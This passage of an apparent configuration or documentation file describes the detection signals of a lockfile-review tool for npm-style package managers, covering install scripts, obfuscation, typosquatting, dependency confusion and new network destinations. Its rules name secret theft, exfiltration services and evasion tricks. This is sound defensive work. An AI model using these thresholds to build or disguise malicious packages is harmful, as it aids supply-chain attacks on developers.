      "It is milder where the archive of the version before differed in just the same way, where a dependency is bundled, and where the text of the manifest is newly ambiguous, such as by a key that stands twice. What the registry shows and the archive does not have is clear: nothing comes of it. So is what publishing tools change: the folder of commands before a script, a `v` or a build number in the version. A build that only `binding.gyp` implies is `implicit-install`'s to tell.",
      "The full form blocks and the milder one warns, at any age: two manifests that do not agree stay wrong."
    ]
  ],
  [
    "implicit-install",
    [
      "The archive of the release is fetched from the registry, held against the hash that the lockfile names, and read. Nothing of it is written to a disk or run. It is compared with the archive of the version before: the one base locks, or the nearest lower one that has been public for a month where base is further behind.",
      "It flags when the archive has a `binding.gyp` that makes npm build it, the archive before had none, and the registry does not show the build as an install script. Where the registry shows it, as it does for what npm itself publishes, it is `install-script-added`'s to tell.",
      "It blocks, at any age. There is no milder form."
    ]
  ],
  [
    "dependency-confusion",
    [
      "It learns from the addresses in the lockfiles of base where each package and each scope comes from. It reads nothing of that from head.",
      "- An update whose package came from another registry at base, and comes from the registry that was asked now, blocks.",
      "- An added package of a scope that base takes from other registries only, and that comes from the registry that was asked, blocks.",
      "Where the lockfile gives no addresses (pnpm, Yarn berry and Bun mostly), the configuration decides where packages come from: see `registry-setting`. A name that the registry does not have at all is asked about by `release-missing`."
    ]
  ],
  [
    "exotic-source",
    [
      "It looks at where the lockfile says the bytes come from, at base and at head.",
      "- git, not pinned to a full commit: blocks. So does a move from a commit to a branch of the same repository.",
      "- git, pinned: warns where the package is added, came from a registry, or came from another repository. A new commit of the same repository is quiet.",
      "- an address that is not a registry's address for that name and version: blocks. A new file beside the one that was served before is quiet: on the same host, below the same first two folders, and not over http where it was https.",
      "- a folder or file beside the project, or a patch that is applied on installing: warns the first time. Both can be read in the pull request.",
      "A package that was already exotic in the same way stays quiet. A version that stays the same and changes its place is `integrity-changed`."
    ]
  ],
  [
    "bin-shadow",
    [
      "It takes the commands that the release brings and its predecessor did not. The predecessor is the release that base locks, or the nearest lower one; the first release of a package has none, and all its commands are new.",
      "- A shell, or a command of the system that scripts call (`git`, `curl`, `python`, `docker` and the like): flagged.",
      "- A command that every JavaScript project calls (`node`, `npm`, `npx`, `yarn`, `pnpm`, `bun`, `deno`, `tsc` and a few more), from a package that it does not belong to: flagged.",
      "- The name of one of the most used packages of the public registry, from a package that is not one of them: a milder finding.",
      "A command that has the name of its own package is clear: who asks for the package asks for the command. In the milder form this holds for the name without its scope as well, since forks keep it."
    ]
  ],
  [
    "known-malware",
    [
      'The registry is asked in one request about every release that comes from it, on both sides of the change, as `npm audit` does. A record counts as malware when it is of the class "embedded malicious code" (CWE-506), or is titled as such records are. Releases from other registries are not asked about: a private package has its name in common with a public one now and then, and its name is nobody\'s business.',
      "GitHub's database and OSV can be asked as well, see configuration. One record is told once.",
      "It blocks. Where the same record is about the version that base locks, the change brings nothing new; that is the milder form."
    ]
  ],
  [
    "look-alike-name",
    [
      "Established are the packages that base locks in the lockfiles that this pull request changes, and the most used names of the public registry: a list of about 5,800 in `src/names/popular.ts`, with its source and date. A name that is established itself is never flagged, nor one in an established scope: nobody but a scope's owner can add to it.",
      "It blocks on what nobody writes by mistake:",
      "- characters that look like others: a Cyrillic `а`, `0` for `o`, `1` for `l`, `rn` for `m`;",
      "- a package of the same name in a scope that is written almost like the true one: `@bable/core`.",
      "It warns on",
      "- another separator, or none, also in place of a scope: `crossenv`, `types-node` for `@types/node`;",
      "- `.js` or `-js` behind the name: `jquery.js`;",
      "- two letters swapped: `lodahs`;",
      "- one letter missing, added or exchanged: `expres`, `chalks`;",
      "- doubled letters and plurals more or less, also twice: `suport-color`.",
      "An edit is quiet where it makes another word: at the first letter of a word (`preact`), in a word of less than five letters (`csv` for `css`), with a digit (`through2`), and, in words of less than eight letters, where a consonant is exchanged (`matched` for `matcher`). Of names of up to four letters, only a swap or a doubled letter is asked about, and characters only where they are not of the Latin script.",
      "What it warns on is quiet once the package's first release is two years old, where the registry tells: by then it is another package. Together with `new-package` a warning becomes a block.",
      "Measured on the 3,248 names that 39 real lockfile changes add, without looking at their age: three are flagged, one in a thousand, and all three for their separators: `timespan`, `rollup-plugin-json`, `react-native-gradle-plugin`."
    ]
  ],
  [
    "release-missing",
    [
      "It asks the registry for the package's document.",
      "- The version is there: clear.",
      "- The version is not there, but the registry still gives the time when it was published: it was removed.",
      "- The version is not there: the registry has no such version.",
      "- There is no document: the registry has no such package.",
      "- The version is there, but the registry knows nothing of the one that base locks and took from a registry: a milder finding. A base whose release was removed, with its time still known, is clear: to leave it is the cure.",
      "- The version is 0.0.1-security or the like, the placeholder that the public registry puts where it took a package down: a milder finding.",
      "A registry that cannot be reached is not one that says no. That is unknown, and it blocks for its own reason; see not knowing."
    ]
  ],
  [
    "install-script-added",
    [
      "It compares the hooks of this release, by name, to those of the release before: the one your base locks, or for a package that is new to you or goes back, the nearest lower version that was there before it. A package that always had a `postinstall` is therefore clear, also when you add it for the first time. A package with no earlier release to compare with is flagged if it has any hook.",
      "It also flags when the lockfile begins to say that the package has an install script while the registry's document shows none. The lockfile's word comes from the archive itself, so the two ought to agree.",
      "It blocks while the release has been public for less than seven days. After that, and where the registry gives no time of publication, it is milder and warns. Documented attacks of this kind were found within hours, the slowest within days. A milder finding still blocks when it meets another sign on the same release: a new publisher, all maintainers replaced, a long silence before it, a jump in the version, or the cooldown.",
      "The finding says whether your package manager would run the script in this project, by what base tells it, and keeps its level either way: see configuration."
    ]
  ],
  [
    "install-script-changed",
    [
      "It compares the command of each hook that both releases have, letter by letter. The release before is the one your base locks, or for a package that is new to you or goes back, the nearest lower version that was there before it. Hooks that are new are the matter of `install-script-added`.",
      "By itself it warns. Together with a new publisher, or after a long silence, it blocks.",
      "The finding says whether your package manager would run the script in this project, by what base tells it."
    ]
  ],
  [
    "install-script-reach",
    [
      "The archive of the release is fetched from the registry, held against the hash that the lockfile names, and read. Nothing of it is written to a disk or run. It is compared with the archive of the version before: the one base locks, or the nearest lower one that has been public for a month where base is further behind.",
      "It follows what `preinstall`, `install` and `postinstall` name, what `node-gyp` would read in `binding.gyp`, and all that is loaded from there. An ability that none of these files had before is new, though the rest of the package may have had it.",
      "In full it flags secrets, wallets, publishing, starting with the machine, the name of the machine, the clipboard; whatever hides its name or runs what it decoded or fetched; commands that download or hide; and programs that are started, where the network or the writing of files is new as well. Everything else, such as only the network, is its milder form.",
      "Of a first release only the full form is told. That it has a hook at all is `install-script-added`'s to tell.",
      "An added package that is a newcomer is looked at as a whole as well, as if it were a first release, since the versions before may be part of the same attack. There the commands of the install scripts are read too, and every ability on installing is told, though the version before had it. Of one that only had few releases, programs that are started together with the network or the writing of files are milder.",
      "It blocks while the release has been public for less than seven days, and its milder form warns. Then it counts one level less, and after 90 days it is a note: what thousands have installed for so long has been looked at by others. A level that your policy names does not fade."
    ]
  ],
  [
    "new-capability",
    [
      "The archive of the release is fetched from the registry, held against the hash that the lockfile names, and read. Nothing of it is written to a disk or run. It is compared with the archive of the version before: the one base locks, or the nearest lower one that has been public for a month where base is further behind.",
      "The code of both is read as a tree, names are followed, and constants are put together and decoded. An ability counts when nothing like it was anywhere in the package before. Abilities that are told even where there were others of their kind: secrets, wallets, publishing, starting with the machine, commands that download or hide, and whatever hides its name.",
      "In full it flags",
      "- a name in disguise: put together, decoded, or behind a cipher;",
      "- code, names or commands that are decoded, decrypted or fetched, and then run or used;",
      "- a command that downloads something or hides, and the removal of a home or a disk;",
      "- the first loop without an end, the first reach for a wallet, for publishing, for starting with the machine, and the first function put in place of what others call;",
      "- a secret (`.npmrc`, keys, tokens, stored passwords), where the code also begins to reach the network, to start programs, or to call a new host;",
      "- a date that it waits for, where it also begins to reach the network, to start programs or to run texts;",
      "- the network, where it also begins to tell the name of the machine or to read all variables of its environment.",
      "In its milder form it flags one of these alone where the other part is missing, the clipboard, names made at run time, the first text run that nobody can tell, and two of network, programs, run texts and machine code beginning at once. What is read from words alone, as in TypeScript, is milder too. One of the ordinary abilities by itself is clear.",
      "Of a first release everything is new. It is flagged only for what hides itself, for such commands, and for a way out together with all variables.",
      "An added package that is a newcomer is looked at as a whole as well, as if it were a first release, since the versions before may be part of the same attack. It is a newcomer when its first release is younger than a month, when its name is made like an established one and younger than two years, or when it had three releases at most and is not widely used. Of one that is young or looks like another, wallets, publishing, starting with the machine, and secrets together with a way out are told in the milder form. Of one that only had few releases, a way out together with all variables is milder. What an established package could always do is said of it in the report, and is no finding.",
      "What only runs on installing is `install-script-reach`'s to tell. Files of tests and pages do not count, unless something that runs leads there.",
      "It blocks while the release has been public for less than seven days, and its milder form warns. Then it counts one level less, and after 90 days it is a note: what thousands have installed for so long has been looked at by others. A level that your policy names does not fade."
    ]
  ],
  [
    "obfuscated-code",
    [
      "The archive of the release is fetched from the registry, held against the hash that the lockfile names, and read. Nothing of it is written to a disk or run. It is compared with the archive of the version before: the one base locks, or the nearest lower one that has been public for a month where base is further behind.",
      "Only new lines are looked at, and a sign counts only where no file of the version before had it.",
      "In full it flags code that stands behind a hundred columns or eighty lines of nothing, names made of numbers or of letters that look alike, and texts that are kept scrambled in a list. In its milder form it flags text in escapes, a very long line in a file that had none, large encoded data that is no picture or font, and a file that cannot be read as code.",
      "That a whole file is minified is clear: many packages begin to ship one. Of a first release only the full form is told. An added package that is a newcomer is looked at as a whole as well, as if it were a first release, since the versions before may be part of the same attack.",
      "Files of tests and pages do not count.",
      "It blocks while the release has been public for less than seven days, and its milder form warns. Then it counts one level less, and after 90 days it is a note: what thousands have installed for so long has been looked at by others. A level that your policy names does not fade."
    ]
  ],
  [
    "hidden-code",
    [
      "The archive of the release is fetched from the registry, held against the hash that the lockfile names, and read. Nothing of it is written to a disk or run. It is compared with the archive of the version before: the one base locks, or the nearest lower one that has been public for a month where base is further behind.",
      "Only new lines are looked at. In full it flags characters that change the order of text, and any run of twelve or more characters without width: data needs a run. In its milder form it flags fillers that can be names of their own.",
      "What writing needs is clear: selectors behind emoji, joiners between letters, marks beside letters of scripts that run from the right, the flags of parts of a country. Files of tests and pages do not count.",
      "An added package that is a newcomer is looked at as a whole as well, as if it were a first release, since the versions before may be part of the same attack.",
      "It blocks while the release has been public for less than seven days, and its milder form warns. Then it counts one level less, and after 90 days it is a note: what thousands have installed for so long has been looked at by others. A level that your policy names does not fade."
    ]
  ],
  [
    "new-destination",
    [
      "The archive of the release is fetched from the registry, held against the hash that the lockfile names, and read. Nothing of it is written to a disk or run. It is compared with the archive of the version before: the one base locks, or the nearest lower one that has been public for a month where base is further behind.",
      "A host is new when no file of the version before named it, pages and manifests included, nor another host below the same registered name.",
      "In full it flags a new host or address that a call is given; one whose name is put together or decoded; and, wherever they are named, webhooks of chat and request services, services for pasted text, hidden services, and the address at which clouds give out credentials. The address of a wallet is its milder form. A host that is only named, as in a link, is clear. So are addresses of the machine itself and of private networks.",
      "Of a first release only what is in disguise and the services of the list above are told.",
      "An added package that is a newcomer is looked at as a whole as well, as if it were a first release, since the versions before may be part of the same attack. Of one that is young or looks like another, an address without a name that a call is given is told in the milder form.",
      "Files of tests and pages do not count.",
      "It blocks while the release has been public for less than seven days, and its milder form warns. Then it counts one level less, and after 90 days it is a note: what thousands have installed for so long has been looked at by others. A level that your policy names does not fade."
    ]
  ],
  [
    "unexpected-file",
    [
      "The archive of the release is fetched from the registry, held against the hash that the lockfile names, and read. Nothing of it is written to a disk or run. It is compared with the archive of the version before: the one base locks, or the nearest lower one that has been public for a month where base is further behind.",
      "A file is judged by its first bytes. In full it flags the first program or archive of its kind whose name says something else (a program that is called `.png`), and the first program in machine code that runs on installing. Another first program in machine code is its milder form, as is a new `.npmrc`, `.yarnrc`, `.yarnrc.yml` or `npm-shrinkwrap.json` at the top.",
      "Clear are programs of a package that had such programs before, WebAssembly and archives with fitting names, and files of tests and pages. Of a first release only the full form is told.",
      "An added package that is a newcomer is looked at as a whole as well, as if it were a first release, since the versions before may be part of the same attack.",
      "It blocks while the release has been public for less than seven days, and its milder form warns. Then it counts one level less, and after 90 days it is a note: what thousands have installed for so long has been looked at by others. A level that your policy names does not fade."
    ]
  ],
  [
    "size-jump",
    [
      "The archive of the release is fetched from the registry, held against the hash that the lockfile names, and read. Nothing of it is written to a disk or run. It is compared with the archive of the version before: the one base locks, or the nearest lower one that has been public for a month where base is further behind.",
      "The size of all files is compared with the largest release before, by what was counted in the archive and by what the registry says of older ones. It flags from five times that size on, where it grew by 300 kB or more.",
      "The signal is weighed: by itself it is a note or a warning, and together with others it blocks. It counts in full for seven days, half for 90 days, and then no more."
    ]
  ],
  [
    "new-dependency",
    [
      "It looks at what the release asks for and its predecessor did not. A dependency that base locks already is no news. Of the others, each is flagged",
      "- that comes from git, or from an address, rather than from a registry;",
      "- whose first release came out less than seven days before this one, or after it;",
      "- whose name looks like that of a well-known package, or of one that base locks, as `look-alike-name` measures it, and that is young; an old one is flagged mildly.",
      "Mildly, because it is often honest:",
      "- a young one that comes from the same people: projects split themselves into several packages. Who published only this release is not among those people;",
      "- an old one by other people that is not among the most used packages.",
      "The signal is weighed, and its rarity is an estimate on the cautious side: the recorded histories hold only some of the packages that others depend on."
    ]
  ],
  [
    "trust-downgrade",
    [
      "The release is compared with the one it replaces: what base locks, or the nearest earlier version where base locks none. It is also compared with the newest earlier release of the same major version, so that a project that is a few versions behind is told the same. It flags when the way is weaker than either.",
      "It flags in its milder form",
      "- when this package went back to a weaker way before, in its settled past: some projects publish by hand now and then;",
      "- when only a release of another major version was stronger: old lines are often kept by hand.",
      "The signal is weighed. Its rarity is an estimate: the recorded histories end before registries knew trusted publishers.",
      "Where base tells pnpm `trustPolicy: no-downgrade`, and the policy does not name this signal, it blocks."
    ]
  ],
  [
    "provenance-context",
    [
      "The verified statement of the release is compared with that of its predecessor. It flags another repository (or CI service), a machine of the project's own where there was one of the CI service, and a build that a pull request started. It flags mildly another workflow file, another way to start it, and another branch, or a tag for a branch: older lines have branches of their own.",
      "Only verified statements are compared. A statement that is gone is `trust-downgrade`; one that is wrong is `provenance-invalid`.",
      "The signal is weighed, and its rarity is an estimate: the recorded histories end before attestations began."
    ]
  ],
  [
    "new-publisher",
    [
      "It takes the settled past of the package, and asks whether this publisher is among those who published it: every release up to the one that base locks, and every release that is at least 30 days older than the one judged. What came out between the two proves nothing, since whoever takes a package over may publish a harmless release first, as with `event-stream` 3.3.5.",
      "- The package's first release has no past to differ from. It is clear.",
      "- Moving from a person to a pipeline (trusted publishing) brings in no stranger. It is clear, unless somebody who never published is new among the maintainers at the same time: one may have come with the other, and that is a milder finding. Once there was a pipeline, another pipeline configuration is somebody new.",
      "- A staged release is clear if the person who approved it had approved or published before. Once there was an approver, another one is somebody new. The first staged release is judged by who sent it in.",
      "- If the new publisher was already listed as a maintainer of the release before, the finding is milder. Not so where a pipeline published last: to go around it is another thing than to take one's turn.",
      'If the registry does not tell who published, the outcome is unknown. It is never "new", and never "fine".'
    ]
  ],
  [
    "maintainer-change",
    [
      "It compares the names listed with this release to those listed with the release before: the one your base locks, or for a package that is new to you or goes back, the nearest lower version that was there before it.",
      "- All names replaced: flagged.",
      "- The account that published has a mail address at another domain than the release before gave for it: flagged.",
      "- Some names added: a milder finding.",
      "- A name that is gone stands there with the same mail address under a new name: an account that was renamed, a milder finding.",
      "- Another maintainer has a mail address at another domain: a milder finding.",
      "- Names only removed, or none changed, or another address at the same domain: clear."
    ]
  ],
  [
    "publisher-not-maintainer",
    [
      "It compares the publisher with the list of the same release, by name and by mail address, and with the list of the settled release that came out last before it: somebody who is on either is a maintainer. For a staged release it takes one of the two, who sent it in or who approved it. A pipeline is on no list and is clear.",
      "- Not on the list, and three or more earlier releases all came from a listed maintainer: flagged.",
      "- Not on the list, but the past is short, or others published without being listed: a milder finding.",
      "- An account that published without being listed before does so by habit, and is clear.",
      "A registry that leaves out publishers or maintainers makes it unknown. An empty list is clear."
    ]
  ],
  [
    "maintainer-domain",
    [
      "It is off unless you ask for it, since it asks others than the registry:",
      "```yaml signals: maintainer-domain: weigh ```",
      "It takes the mail addresses of the release: that of the publisher, or of the approver, then those of the maintainers, up to three different domains. Addresses of large providers of mail are left out. Of the rest only the part that people register is used: `mail.example.org` becomes `example.org`.",
      "- The DNS has no such name, though it knows the top-level domain: flagged.",
      "- The domain was registered after the first release that the account published, or was listed with, under the same domain: flagged.",
      "- Both are milder where it is a maintainer who did not publish this release.",
      "- Where a domain is older than that release, it is clear.",
      "By itself it is a note: it weighs little, and counts with the other signs. It counts as one with `new-publisher`, `maintainer-change` and `publisher-not-maintainer`.",
      "Who is asked. The resolver of the machine, for each domain. Then IANA, once, for the list of registries; and the registry of the top-level domain, by RDAP over https, for the day on which the domain was registered. Each domain is asked about once for each review. They learn the domain and the address of your machine, nothing of your project.",
      "What cannot be told is unknown, and never blocks: no network, a resolver that fails or knows no public names, a registry that has no RDAP or does not tell the day. Several countries' registries do not."
    ]
  ],
  [
    "source-tag-lost",
    [
      "It compares the release with the last ten settled ones of its own stream (stable releases with stable ones, canaries with canaries), and where there are enough, with those that people published if a person published it, or those that a pipeline did.",
      "- All ten named the commit and it does not: flagged. The same for the repository of the source.",
      "- Five to nine named it, and at most one did not: a milder finding.",
      "- The repository it names belongs to an owner that none of them named: a milder finding.",
      "Where the registry holds an attestation of the build, a lost commit is no news: the attestation names one, and it is signed. `trust-downgrade` looks after those.",
      "A registry that gives no commits at all gives none for the past either, and the release is clear."
    ]
  ],
  [
    "new-package",
    [
      "It takes the time of the package's first release that the registry still knows, and compares it with the moment of the review. It asks only about packages that this pull request adds, direct or not.",
      "An older package with one release is the milder form: nobody came back to it, and it may have been put there to wait. What was removed counts as a release, and so does a later one. Packages among the most used of the public registry are left out: what everybody uses and was right the first time needs no second release.",
      "What a package that is new can do is judged by the signals that look into archives, such as `new-capability`: of a young one all of it counts as new. The report says of every added package what it is and can do."
    ]
  ],
  [
    "version-jump",
    [
      "- The major version of this release is compared with the highest stable major among the releases published before it. If one or more are skipped (3 to 5, or 1 to 99), and the package never skipped as many before, it is flagged.",
      "- The numbers that were left out below are counted too: patches of its line, minors of its major, and those below the number at which a new line or major begins (1.2.8 to 1.3.9 leaves out nine). Five or more, and more than the package ever left out at once, are flagged; three or four are a milder finding. This is asked of packages with five releases or more.",
      "- A prerelease where base locks a stable release is a milder finding. No range leads there by itself.",
      "- A version that goes back, from 2.4.1 to 2.3.0, is a milder finding.",
      "Odd numbers of the last 30 days that base does not lock speak against this release as well, where they are of the same major. Prereleases take no numbers away from stable releases.",
      "A package's first release has no numbers to be out of line with, and is clear."
    ]
  ],
  [
    "publish-burst",
    [
      "It counts the releases of the package within two hours of each other that this one is among, and the release lines (major and minor) they belong to. It compares both with the densest two hours the package had before. Prereleases are counted by themselves, so that canaries do not stand beside releases.",
      "- Three or more releases, or three or more lines, and at least two more than ever: flagged.",
      "- Three or more releases, and one more than ever: a milder finding.",
      "- Two lines at once for the first time: a milder finding.",
      "It also looks at the other packages of the same review that the same account published, or that belong to the same scope, within two hours. Those that never came out together before count, where they are more than those that did: three flag, two flag mildly.",
      "A package with fewer than five settled releases has no habit to compare with, and is clear."
    ]
  ],
  [
    "publish-order",
    [
      "It looks at stable releases only, and at those that were published before this one.",
      "- A higher version was published before, and the tag `latest` stands at this one: flagged. If the package went back to older lines before, or the higher version is deprecated, the tag may be there on purpose, and it is not.",
      "- The release is two or more major versions behind the highest one, and its own major version had no release for a year: a milder finding.",
      "- A higher version of its own release line (major and minor) came out before it: a milder finding.",
      "A back-port to the major version before, or to a line that is kept up, is clear."
    ]
  ],
  [
    "dormant-revival",
    [
      "It looks at the silence before this release. It flags when that is at least a year, and at least twice the longest pause the package had before. In a milder form it flags when the silence is at least half a year and at least the longest pause so far, and for a package with fewer than four releases, which shows no pace. A release of the last 30 days that base does not lock yet does not end the silence in this one's stead: it may be the first step of the same attack.",
      "A canary or another prerelease ends a silence, since somebody is at work. It does not make pauses shorter: the longest pause is that between releases of the same stream, where it is longer."
    ]
  ],
  [
    "release-deprecated",
    [
      "- The registry marks the release as deprecated, and the package is new here: a note.",
      "- It marks the release, and not the one that base locks: a note.",
      "- Both are marked: clear. That is no news.",
      "The reason is shown as it was written, up to 240 characters."
    ]
  ],
  [
    "licence-change",
    [
      "It compares what the registry tells of both releases. Spellings count as one (`Apache 2.0` is `Apache-2.0`, `GPL-3.0+` is `GPL-3.0-or-later`), and so does the order.",
      "- What one could choose before can still be chosen: clear. `MIT` may become `MIT OR Apache-2.0`.",
      "- Anything else is a note, also where no licence is named any more.",
      "- No licence was named before: clear."
    ]
  ],
  [
    "known-vulnerability",
    [
      "The registry is asked in one request about both sides of every change. Vulnerabilities that head has and base has not are flagged, the worst first. Below the severity that the policy names (`severity`, by default `high`) it is the milder form."
    ]
  ],
  [
    "vulnerability-fixed",
    [
      "It compares the advisories about what base locks with those about what head locks. A vulnerability that holds for the one and not for the other is repaired. It is a note, and `release-age` does not flag such a change. Every other signal judges it as ever: a hijacked release can be numbered like a repair."
    ]
  ],
  [
    "release-age",
    [
      "It takes the time of publication that the registry gives, adds the cooldown, and compares that with the moment of the review. The finding gives the exact time, in UTC, from which the release clears. Nothing else is weighed: young is young.",
      "Where the policy names no cooldown, a longer waiting time that base tells your package manager counts: see configuration.",
      'If the registry gives no time, or times that contradict themselves, as those of a cache do, the outcome is unknown. An unknown age does not block, and is shown as "not judged".'
    ]
  ],
  [
    "acknowledgement",
    [
      "For each entry under `acknowledgements` in the policy it says",
      "- a week ahead, that it will end, where this change needs it;",
      "- that it has ended, and no longer counts;",
      "- that it is for more than a year from now, and does not count: nobody can answer for longer;",
      "- that nothing matches it any more, where the changed lockfiles lock the package in another version or with other bytes.",
      "Of a comment `/lockkeeper accept …` on the pull request, it says why it does not count, where it is about a release that the pull request changes: its author may not accept, it was edited, other bytes are locked now, its 30 days are over, or it names a finding that only the policy file can accept.",
      "It is a note. It does not judge the release: what the acknowledgement covered is found, and judged, as ever."
    ]
  ],
  [
    "lockfile-unreadable",
    [
      "Every changed file with the name of a lockfile is read. It is unreadable when",
      "- it is cut off, is not valid JSON or YAML, holds the marks of a merge conflict, or holds the same key twice;",
      "- it is not UTF-8, or holds NUL bytes;",
      "- an entry is not what its format allows: a wrong type, a name that is none, neither a version nor a place;",
      "- its format, or the version of its format, is not one that Lockkeeper reads. The message then says which it reads;",
      "- it is larger than 50 MiB.",
      "The message gives the line where there is one, and what to do. It blocks."
    ]
  ],
  [
    "lockfile-not-a-file",
    [
      "It looks at how git stores the entry on the head side. A symbolic link (mode 120000) and a submodule (mode 160000) are flagged. Lockkeeper does not follow either. It blocks."
    ]
  ],
  [
    "lockfile-base-unreadable",
    [
      "The base side is read in the same way as the head side; see `lockfile-unreadable`. If it cannot be read and the head side can, every package of the head side counts as added and is judged as such. That takes longer, and finds more, but it hides nothing: what cannot be known is only how each package differs from before.",
      "One file is read for base and never accepted at head: `bun.lockb`, Bun's binary lockfile. A pull request that replaces it with `bun.lock` is compared with it, package by package. It is read as Bun itself writes it, in its formats 2 and 3; with the slightest doubt it counts as unreadable.",
      "It warns, because a pull request that repairs a broken lockfile is a good one."
    ]
  ],
  [
    "lockfile-removed",
    [
      "A lockfile that base has and head has not is flagged. If another lockfile is added in the same folder, it was replaced, as when a project moves to another package manager; the two are then compared with each other; see `lockfile-migrated`.",
      "It warns."
    ]
  ],
  [
    "lockfile-migrated",
    [
      "It compares the format and the format's version of a lockfile on both sides. A lockfile that was added in the folder from which another was removed is taken for its successor.",
      "The packages are compared as always, version by version, and every version that was not there before is judged. The finding adds how many of the versions that stayed have no hash in common on the two sides, so that a change of their bytes would not be seen. It is a note."
    ]
  ],
  [
    "manifest-drift",
    [
      "Three questions about each lockfile that changed, and about the lockfile beside a manifest whose ranges changed without it.",
      "Is a direct dependency locked in a version that its range does not allow, or as another package? The range is that of the manifest where it was read, else the one that the lockfile repeats. If this change brought that version in, it blocks. If base locks the version as well, if only the manifest moved, or if it is a prerelease of a version that is allowed, it warns.",
      "Do the ranges differ? The lockfiles of npm 7 and later, pnpm and Bun repeat what each manifest asks for. Each difference in either direction warns: a range, a dependency that is in one of them alone. For the other npm files and for Yarn, which do not repeat the ranges or from which they are read together, it asks whether the lockfile has an entry for what the manifest asks for.",
      "Does nobody ask for a package that this change added? No manifest and no other package leads to it. It warns.",
      "Only what is new counts: what disagreed in the same way at base is not told again. What cannot be compared is left alone: tags, aliases (`npm:other@1`), workspaces, catalogs, git, files, patches, peers, and whatever overrides or resolutions of the repository speak of. A new override is told of by `override-setting`. Packages for one platform are left out of the third question, because npm leaves them behind.",
      "Manifests are read if they changed, or if a lockfile repeats their ranges and repeats them otherwise than at base. Overrides, and the names of your own packages, are read when there is a difference that they may explain."
    ]
  ],
  [
    "loose-range",
    [
      "It compares `dependencies` and `optionalDependencies` of each `package.json` at base and head. A range is loose if it takes versions without end: `*`, `x`, an empty text, `>=1`, `>1`, `^1 || >=2`, a tag such as `latest` or `next`, or an alias with one of these behind its name (`npm:other@*`). What a registry is not asked for is not loose here: `workspace:*`, `catalog:`, git, files and addresses.",
      "Quiet are:",
      "- a dependency whose range was loose at base, however it was written",
      "- `devDependencies` and `peerDependencies`",
      "- the names of packages in this repository, since workspaces ask for each other with `*`",
      "It warns."
    ]
  ],
  [
    "registry-setting",
    [
      "It reads `.npmrc`, `.yarnrc.yml`, `.yarnrc`, `bunfig.toml`, `pnpm-workspace.yaml` and `package.json` at base and at head, and compares the values that hold, not the lines.",
      "- A registry, of everything or of a scope, that is set, moved or taken away. Taking a private one away is flagged too: its names are then asked for at the public registry. The public registry under either of its names is the same as no registry.",
      "- Certificates that are no longer checked (`strict-ssl`, `strictSsl`, `enableStrictSsl`), and all hosts allowed without encryption (`unsafeHttpWhitelist`).",
      "- A credential for a host that base has no registry at, or from another variable of the environment. The secret is never shown.",
      "It blocks. Milder, and so a warning: a credential for a registry that base has; a proxy or a certificate file; a single host without encryption; another place to publish to."
    ]
  ],
  [
    "install-code-setting",
    [
      "It compares what holds at base and at head.",
      "- Switches: `ignore-scripts`, `enableScripts`, `dangerously-allow-all-scripts`, `dangerouslyAllowAllBuilds` and their like. From strict to open blocks; an open value written down where nothing was written is milder.",
      "- Packages allowed by name: `allowScripts`, `allowBuilds`, `onlyBuiltDependencies`, `trustedDependencies`, `dependenciesMeta`. A new name is milder; a pattern for all blocks. Denials are quiet, and so is going over from one of pnpm's lists to the next.",
      "- Programs and code: `git`, `script-shell`, `node-options` that load code, `yarnPath`, `plugins`, `pnpmfile`, `configDependencies`, `preload`.",
      "- Files: a `.pnpmfile`, `.npm-extension`, Yarn plugin that appears blocks, and is milder where it changes. A file in `.yarn/releases` is the other way round: a new one is an update of Yarn, another text under the same name is not. `binding.gyp` is milder.",
      "- The install scripts of the repository's own manifests, added or changed: milder, since the command stands in the diff.",
      "What gets stricter is quiet, and so is what is taken away."
    ]
  ],
  [
    "cooldown-setting",
    [
      "It reads `min-release-age` (days), `minimumReleaseAge` of pnpm (minutes) and of Bun (seconds), `npmMinimalAgeGate` (minutes or a duration), for scopes too, and compares times, not numbers.",
      "- Switched off, or taken away where nothing holds without it: flagged. Shorter: milder. Taken away where the package manager has a default of its own: milder.",
      "- A new exception: milder. A pattern for everything, or for everything but one: flagged.",
      "- A date (`before`) that takes the place of the waiting time, and releases without a date that are let through: milder.",
      "Exceptions that come together with a new waiting time are quiet if that is longer than what held without it.",
      "It warns; the milder form is a note. What a pull request locks is held to Lockkeeper's own cooldown all the same (`release-age`), and pnpm adds exceptions by itself when it has to take a young release."
    ]
  ],
  [
    "trust-setting",
    [
      "It compares the switches at base and at head.",
      "- Sources: `allow-git`, `allow-remote`, `allow-file`, `blockExoticSubdeps`, `approvedGitRepositories`.",
      "- Trust: `trustPolicy`, `trustPolicyExclude`, `trustPolicyIgnoreAfter`, `trustLockfile`, the scanner of Bun.",
      "- The lockfile: `package-lock`, `lockfile`, `install.lockfile.save`, `checksumBehavior`, `enableHardenedMode`, `enableImmutableInstalls`, `frozenLockfile`, `verifyStoreIntegrity`.",
      "From strict to open blocks. Milder: a step that leaves something closed (`none` to `root`), a single exception, a switch whose default depends on the version of the package manager, and those that let an install change the lockfile. A value that depends on the environment counts as open where it was strict."
    ]
  ],
  [
    "override-setting",
    [
      "It reads `overrides`, `resolutions`, catalogs, `packageExtensions`, `patchedDependencies` and the files in `patches` folders, wherever the package managers have them, and looks at where each spec leads.",
      "- To git, to an address, to a file or folder, to a package of another name, or to something that is not understood: flagged, and it blocks. Milder where it came from the same repository or address before, in another commit.",
      "- To another version of the same package, where there was no override: milder. Another version of what is already overridden is an update like any other, and quiet, also under another name; so are versions in catalogs.",
      "- Taken out (`-`), or changed by a patch: milder.",
      "`$name` of npm is followed to what the manifest asks for. Going back to the registry is quiet, and so is an override that is taken away."
    ]
  ],
  [
    "package-manager-setting",
    [
      "It reads `packageManager` and `devEngines.packageManager`.",
      "- An address in the place of a version, or another hash for the same version: flagged. It blocks.",
      "- A hash that is gone, or a weaker one; another package manager: milder.",
      "Another version with its hash is an ordinary update, and quiet. So is a first `packageManager`."
    ]
  ],
  [
    "editor-code-setting",
    [
      "It reads `.vscode/tasks.json`, `.vscode/settings.json`, `.claude/settings.json`, `.cursor`, `.devcontainer` as data, and compares the commands that start by themselves:",
      "- tasks with `runOn: folderOpen`, and settings that start tasks, choose shells or approve tools;",
      "- hooks of agents, servers and helpers they start, every command allowed;",
      "- commands of a container, above all `initializeCommand`, which runs outside of it.",
      "Beside a changed lockfile this blocks; without one it is milder. Commands inside a container are milder in any case. Scripts in these folders and in `.husky` are told, in the milder form, only beside a changed lockfile. Prompts and notes are not looked at. What is taken away is quiet."
    ]
  ],
  [
    "gate-setting",
    [
      "It reads workflows and the policy file at base and at head.",
